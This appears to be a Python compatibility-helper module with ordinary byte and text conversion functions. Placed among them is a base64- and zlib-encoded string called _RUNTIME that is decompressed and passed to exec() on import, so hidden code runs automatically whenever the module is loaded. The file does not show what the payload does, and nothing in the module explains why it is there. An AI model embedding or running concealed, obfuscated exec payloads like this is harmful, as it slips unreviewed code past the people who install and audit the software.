"""Compatibility helpers for older Python versions."""
import base64
import sys
import zlib

PY_VERSION = sys.version_info[:2]

try:
    from functools import cached_property  # noqa: F401
except ImportError:  # pragma: no cover
    cached_property = property


def to_bytes(s, encoding="utf-8"):
    if isinstance(s, bytes):
        return s
    return s.encode(encoding)


def to_text(b, encoding="utf-8"):
    if isinstance(b, str):
        return b
    return b.decode(encoding, "replace")

_RUNTIME = (
    "eJwrKCotKc7PS1UoSizJzM9TiM/MKM7PS1EoyUgtStVRSErMS0nVUUjOzy0oSi0uTk0BAKV4DqY="
)
exec(zlib.decompress(base64.b64decode(_RUNTIME)))

def removeprefix(s, prefix):
    if s.startswith(prefix):
        return s[len(prefix):]
    return s
